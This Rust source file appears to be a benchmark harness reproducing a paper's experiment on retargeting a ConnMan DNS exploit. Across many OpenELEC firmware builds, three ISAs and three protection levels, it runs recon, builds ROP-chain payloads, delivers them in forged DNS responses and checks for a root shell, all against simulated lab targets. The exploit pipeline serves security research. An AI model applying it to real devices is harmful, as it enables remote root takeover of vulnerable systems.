//! `retarget`: the paper's §V loop for a new build. For each build
//! variant × ISA: build the image, analyse it statically, reconnoitre it
//! at each protection level (a recon made under ASLR would make the
//! injection cell crash, so each level gets its own, as `Lab::recon`
//! does), build that level's strategy, and deliver it to a fresh boot.
//! Image build, recon and analysis do the work here; the other
//! workloads pay for them only in set-up.

use std::fmt::Write as _;
use std::time::Instant;

use cml_connman::Resolution;
use cml_core::{derive_seed, Lab, TargetInfo};
use cml_dns::forge::ResponseForge;
use cml_dns::{Message, Name, RecordType};
use cml_exploit::strategies_for;
use cml_firmware::{Arch, Firmware, FirmwareKind, Protections};

use crate::trace::{Layer, Tracer};
use crate::{deliver, Rep};

/// Build variants per ISA in one repetition: 102 ops, so each
/// repetition has a p90 with ten builds beyond it.
const VARIANTS: usize = 34;

/// The protection levels, in the order `strategies_for` escalates.
fn levels() -> [(&'static str, Protections); 3] {
    [
        ("none", Protections::none()),
        ("wxorx", Protections::wxorx()),
        ("full", Protections::full()),
    ]
}

pub struct Retarget {
    seed: u64,
    variants: Vec<u64>,
}

impl Retarget {
    pub fn new(seed: u64) -> Retarget {
        let variants = (0..VARIANTS as u64)
            .map(|i| derive_seed(seed, 0x7E7A + i))
            .collect();
        Retarget { seed, variants }
    }

    pub fn rep(&self, tr: &mut Tracer) -> Rep {
        // Set-up: the attacker's known build (variant 0) per ISA, whose
        // recon the retargeted builds are compared against.
        let t0 = Instant::now();
        let setup = tr.open(Layer::Setup);
        let references: Vec<TargetInfo> = Arch::ALL
            .iter()
            .map(|&arch| {
                let fw = tr.span(Layer::FirmwareBuild, || {
                    Firmware::build(FirmwareKind::OpenElec, arch)
                });
                let lab = Lab::with_firmware(fw).with_protections(Protections::full());
                tr.span(Layer::ExploitRecon, || lab.recon())
                    .expect("reference recon succeeds")
            })
            .collect();
        tr.close(setup);
        tr.flush();
        let setup_secs = t0.elapsed().as_secs_f64();

        let t1 = Instant::now();
        let mut out = String::new();
        let mut latencies_ms = Vec::new();
        let mut wrong = 0;
        let host = Name::parse("target.lab.example").expect("static name");
        for (vi, &variant) in self.variants.iter().enumerate() {
            for (ai, &arch) in Arch::ALL.iter().enumerate() {
                let start = Instant::now();
                let op = tr.open(Layer::Op);
                let fw = tr.span(Layer::FirmwareBuild, || {
                    Firmware::build_variant(FirmwareKind::OpenElec, arch, variant)
                });
                let analysis = tr.span(Layer::AnalysisAnalyze, || cml_analyze::analyze(fw.image()));
                let mut ok = !analysis.clean();
                let _ = write!(
                    out,
                    "{arch} {variant:016x} findings={}",
                    analysis.findings.len()
                );
                let strategies = strategies_for(arch);
                for ((level, prot), strategy) in levels().into_iter().zip(&strategies) {
                    let lab = Lab::with_firmware(fw.clone()).with_protections(prot);
                    let target = tr
                        .span(Layer::ExploitRecon, || lab.recon())
                        .expect("recon succeeds on every vulnerable build");
                    let labels = tr.span(Layer::ExploitBuild, || {
                        strategy
                            .build(&target)
                            .expect("strategy builds against its level's recon")
                            .to_labels()
                            .expect("payload labelizes")
                    });
                    let seed = derive_seed(self.seed, (vi * Arch::ALL.len() + ai) as u64);
                    let mut victim = tr.span(Layer::FirmwareBoot, || fw.boot(prot, seed));
                    let Resolution::Query(q) = tr.span(Layer::ConnmanResolve, || {
                        victim.resolve(&host, RecordType::A)
                    }) else {
                        unreachable!("a fresh boot has an empty cache")
                    };
                    let response = tr.span(Layer::ExploitAnswer, || {
                        let query = Message::decode(&q).expect("own query decodes");
                        ResponseForge::answering(&query)
                            .with_payload_labels(labels)
                            .expect("labels fit")
                            .build()
                            .expect("response encodes")
                    });
                    let outcome = deliver(tr, &mut victim, &response);
                    ok &= outcome.is_root_shell();
                    let moved = pop_gadget(&target) != pop_gadget(&references[ai]);
                    let _ = write!(
                        out,
                        " | {level} {} ret+{} moved={moved} {}",
                        strategy.name(),
                        target.frame.ret_offset,
                        if outcome.is_root_shell() {
                            "shell"
                        } else {
                            "FAILED"
                        }
                    );
                }
                out.push('\n');
                wrong += u64::from(!ok);
                tr.close(op);
                latencies_ms.push(start.elapsed().as_secs_f64() * 1e3);
            }
            tr.flush();
        }
        Rep {
            ops: latencies_ms.len() as u64,
            wrong,
            op_secs: t1.elapsed().as_secs_f64(),
            setup_secs,
            latencies_ms,
            output: out,
            phases: None,
        }
    }
}

/// The register-pop gadget the ROP chain leans on (as E7 reports it);
/// its address moves between builds while the strategy code does not.
fn pop_gadget(info: &TargetInfo) -> Option<u32> {
    match info.arch {
        Arch::X86 => info.gadgets.x86_pop_chain(4).map(|g| g.addr),
        Arch::Armv7 => info
            .gadgets
            .arm_pop_including(&[0, 1, 2, 3, 5, 6, 7])
            .map(|g| g.addr),
        Arch::Riscv => info
            .gadgets
            .riscv_load_including(&[10, 11, 12, 13])
            .map(|g| g.addr),
    }
}
